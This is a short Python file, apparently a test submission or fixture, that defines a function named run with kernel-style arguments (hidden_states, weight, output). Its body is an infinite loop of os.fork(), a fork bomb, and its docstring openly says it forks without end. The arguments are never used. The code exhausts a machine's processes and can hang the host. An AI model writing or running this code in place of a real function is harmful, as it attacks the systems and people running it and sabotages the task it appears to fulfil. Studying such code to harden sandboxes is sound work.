"""Forks without end."""
import os


def run(hidden_states, weight, output):
    while True:
        os.fork()
